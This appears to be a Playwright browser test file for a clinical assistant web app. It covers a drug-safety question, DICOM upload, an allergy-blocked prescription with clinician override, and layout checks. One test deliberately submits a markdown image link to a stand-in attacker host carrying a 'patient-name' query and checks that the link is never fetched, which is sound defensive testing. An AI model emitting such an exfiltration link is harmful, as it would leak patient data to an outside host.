"""The workspace in a real browser (Debian's Chromium driven by the ``playwright`` package): ask a question and
see the streamed answer and the timeline, upload a DICOM image, approve a prescription and see it in the
patient panel. Screenshots are kept in ``test-artifacts/``."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pydicom
import pytest

from docgemma.agent.assistant import Assistant
from docgemma.agent.demo_llm import demo_llm
from docgemma.config import Settings
from docgemma.ehr.service import Ehr
from docgemma.tools.binding import bind_tools, knowledge_clients
from docgemma.tools.ehr_tools import record_write_check
from docgemma.tools.registry import default_registry
from docgemma.ui.page import build_demo
from docgemma.ui.style import page_options
from docgemma.workspace import Workspace
from tests.e2e.conftest import timeout_ms
from tests.fixture_api import handler

pytestmark = pytest.mark.slow
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
ARTIFACTS = Path(__file__).parents[2] / "test-artifacts"
CT = Path(pydicom.__file__).parent / "data" / "test_files" / "CT_small.dcm"
#: A wait's timeout: 60 s on an idle machine, re-set before each test from the measured load (tests/e2e/conftest.py).
TIMEOUT_MS = timeout_ms()


@pytest.fixture
def app_url(tmp_path: Path) -> Iterator[tuple[str, Ehr]]:
    ehr = Ehr.embedded(tmp_path / "record.sqlite")
    registry = bind_tools(default_registry(), knowledge_clients(Settings(), transport=httpx.MockTransport(handler), record=ehr))
    assistant = Assistant(demo_llm(), registry,
                          patient_context=ehr.patient_context, write_check=record_write_check(ehr))
    demo = build_demo(Workspace(assistant, ehr), "Demo rules · CPU", "not clinically meaningful")
    # Served as the app serves it: its CSS and serving options (ui/style.page_options).
    _, url, _ = demo.launch(prevent_thread_lock=True, server_name="127.0.0.1", server_port=None, quiet=True,
                            **page_options())
    yield url, ehr
    demo.close()


@pytest.fixture
def page() -> Iterator[Any]:
    sync_api = pytest.importorskip("playwright.sync_api", reason="the browser test needs: pip install playwright")
    if not Path(CHROMIUM).exists():
        pytest.skip("the browser test needs Chromium: apt-get install chromium (scripts/dev.sh test installs it)")
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=[
            "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"])
        page = browser.new_page(viewport={"width": 1440, "height": 1000})
        page.set_default_timeout(TIMEOUT_MS)  # waits that name no timeout: the load-scaled one too
        yield page
        browser.close()


def ask(page: Any, text: str) -> None:
    box = page.locator("#input textarea")
    box.fill(text)
    box.press("Enter")


def make_active(page: Any, surname: str, name: str) -> None:
    """Search the panel for ``surname`` and make ``name`` the active patient (after the page's restore: the status
    line is set after it, and a search before it would be overwritten)."""
    page.locator("#status").get_by_text("Model:", exact=False).first.wait_for(timeout=TIMEOUT_MS)
    page.locator("#patient-search textarea, #patient-search input").first.fill(surname)
    page.get_by_role("button", name="Search").click()
    page.wait_for_function(f"document.querySelector('#patient-matches input')?.value.includes('{surname}')",
                           timeout=TIMEOUT_MS)
    page.locator("#patient-select").click()
    page.locator("#patient-summary").get_by_text(name, exact=False).first.wait_for(timeout=TIMEOUT_MS)


def test_question_image_and_approved_prescription(app_url: tuple[str, Ehr], page: Any) -> None:
    url, ehr = app_url
    ARTIFACTS.mkdir(exist_ok=True)
    page.goto(url, wait_until="domcontentloaded")
    page.wait_for_selector("#input textarea", timeout=TIMEOUT_MS)

    ask(page, "Check FDA warnings for Coumadin")
    page.get_by_text("Confidence:", exact=False).first.wait_for(timeout=TIMEOUT_MS)
    chat = page.locator("#chat").inner_text()
    assert "Choosing a resource" not in chat  # the steps are the timeline's, not the chat's (issue 46)
    assert "writes no medical text" in page.locator("#header").inner_text()  # said once, not under every answer
    page.locator("#timeline").get_by_text("Drug Safety Report", exact=False).first.wait_for(timeout=TIMEOUT_MS)
    page.screenshot(path=str(ARTIFACTS / "01_answer_and_timeline.png"), full_page=True)

    page.locator("#input input[type=file]").set_input_files(str(CT))
    ask(page, "What does this image show?")
    # The steps are the timeline's (issue 46): the chat shows the image and the turn's answer.
    page.locator("#chat img").first.wait_for(timeout=TIMEOUT_MS)
    page.screenshot(path=str(ARTIFACTS / "02_image_turn.png"), full_page=True)

    # The search's matches are waited for, not a fixed 1.5 s: under CI load the click came before them (a fresh clone's
    # run timed out on the summary).
    make_active(page, "Mensah", "Grace Mensah")
    ask(page, "Prescribe amoxicillin 500 mg three times daily for this patient")
    page.locator("#approval").get_by_text("Allergy conflict", exact=False).first.wait_for(timeout=TIMEOUT_MS)
    page.screenshot(path=str(ARTIFACTS / "03_approval_card.png"), full_page=True)
    pid = ehr.client.search("Patient", [("name", "Mensah")])[0]["id"]
    assert ehr.client.search("MedicationRequest", [("patient", pid)]) == []
    # Penicillin anaphylaxis: a plain approval is not offered (greyed out), nothing is written.
    assert not page.locator("#approve").is_enabled()
    page.locator("#approval").get_by_text("plain approval is refused", exact=False).first.wait_for(timeout=TIMEOUT_MS)
    assert ehr.client.search("MedicationRequest", [("patient", pid)]) == []
    page.locator("#override-reason textarea, #override-reason input").first.fill("tolerated a supervised challenge")
    page.locator("#override").click()
    page.locator("#patient-summary").get_by_text("amoxicillin", exact=False).first.wait_for(timeout=TIMEOUT_MS)
    page.locator("#chat").get_by_text("Written to the record", exact=False).first.wait_for(timeout=TIMEOUT_MS)
    page.screenshot(path=str(ARTIFACTS / "04_prescription_in_patient_panel.png"), full_page=True)
    assert len(ehr.client.search("MedicationRequest", [("patient", pid)])) == 1

    # An image from the record goes to the chat.
    make_active(page, "Kariuki", "Samuel Kariuki")
    page.locator("#record-images img").first.click()
    page.wait_for_timeout(500)
    page.locator("#send-image").click()
    page.get_by_text("Attached to your next message", exact=False).first.wait_for(timeout=TIMEOUT_MS)
    ask(page, "What does this image show?")
    page.wait_for_function("document.querySelectorAll('#chat img').length >= 2", timeout=TIMEOUT_MS)
    page.screenshot(path=str(ARTIFACTS / "05_record_image_sent_to_chat.png"), full_page=True)


def test_page_welcomes_labels_fetches_no_remote_image_and_lists_the_timeline(app_url: tuple[str, Ehr], page: Any) -> None:
    """In the browser: a welcome message on load, the textbox named for people
    (screen readers), the clinician's own ``![x](http://…)`` shown as text without any request to that host
    (it used to be fetched), and a timeline that reads at 1440 px (a list; the table broke words apart)."""
    url, _ = app_url
    ARTIFACTS.mkdir(exist_ok=True)
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.goto(url, wait_until="domcontentloaded")
    page.locator("#chat").get_by_text("clinical decision-support assistant", exact=False).first.wait_for(timeout=TIMEOUT_MS)
    # The label is set when the page has loaded (Gradio renders the textarea first): wait for it, then find the box by it.
    page.wait_for_function("document.querySelector('#input textarea')?.getAttribute('aria-label')", timeout=TIMEOUT_MS)
    box = page.get_by_label("Your message to the assistant")
    box.wait_for(timeout=TIMEOUT_MS)  # the label is set by a load script that may run after the welcome shows
    assert box.count() == 1

    box.fill("What is hypertension? ![x](http://attacker.example/pixel.png?q=patient-name)")
    box.press("Enter")
    page.get_by_text("Confidence:", exact=False).first.wait_for(timeout=TIMEOUT_MS)
    page.wait_for_timeout(1000)
    assert "![x](http://attacker.example" in page.locator("#chat").inner_text()  # shown as text …
    assert not [u for u in requested if "attacker.example" in u]  # … and never fetched

    box.fill("Check interactions between warfarin, aspirin and ibuprofen")
    box.press("Enter")
    timeline = page.locator("#timeline")
    timeline.get_by_text("Drug Interaction Check", exact=False).first.wait_for(timeout=TIMEOUT_MS)
    assert timeline.locator("li").count() >= 5 and timeline.locator("table").count() == 0
    timeline.screenshot(path=str(ARTIFACTS / "06_timeline_at_1440px.png"))
    assert not [u for u in requested if "attacker.example" in u]


LAYOUT_JS = """() => {
  const box = s => { const e = document.querySelector(s); const b = e.getBoundingClientRect();
                     return {left: b.left, top: b.top, width: b.width, bottom: b.bottom}; };
  return {chat: box('#chat'), label: box('#chat [data-testid=block-label]'), messages: box('#chat .bubble-wrap'),
          timeline: box('#timeline'), patients: document.querySelector('#patient-matches input').value,
          select: document.querySelector('#patient-select').className, page: document.documentElement.scrollWidth};
}"""
#: Every element LAYOUT_JS measures is on the page (Gradio mounts some after the greeting is shown: a CI run read a
#: missing one, null.getBoundingClientRect, right after the greeting appeared).
LAYOUT_READY_JS = """() => ['#chat', '#chat [data-testid=block-label]', '#chat .bubble-wrap', '#timeline',
  '#patient-matches input', '#patient-select'].every(s => document.querySelector(s))"""


def test_layout_at_desktop_and_phone_width(app_url: tuple[str, Ehr], page: Any) -> None:
    """At 1440×900 the chat was as narrow as the timeline and the "Conversation" label covered the message at the
    top of the chat; the patient list was a blank box; "Make active patient" was the most prominent button."""
    url, _ = app_url
    ARTIFACTS.mkdir(exist_ok=True)
    for width, height in ((1440, 900), (390, 844)):
        page.set_viewport_size({"width": width, "height": height})
        page.goto(url, wait_until="domcontentloaded")
        page.locator("#chat").get_by_text("clinical decision-support assistant", exact=False).first.wait_for(
            timeout=TIMEOUT_MS)
        page.wait_for_function(LAYOUT_READY_JS, timeout=TIMEOUT_MS)
        shown = page.evaluate(LAYOUT_JS)
        assert shown["messages"]["top"] >= shown["label"]["bottom"]  # messages scroll below the label, not under it
        assert shown["patients"] == "Choose a patient…"
        assert "secondary" in shown["select"] and "primary" not in shown["select"]
        assert shown["page"] <= width  # nothing wider than the screen
        if width == 1440:
            assert shown["chat"]["width"] >= 1.5 * shown["timeline"]["width"]
        page.screenshot(path=str(ARTIFACTS / f"07_layout_at_{width}px.png"))
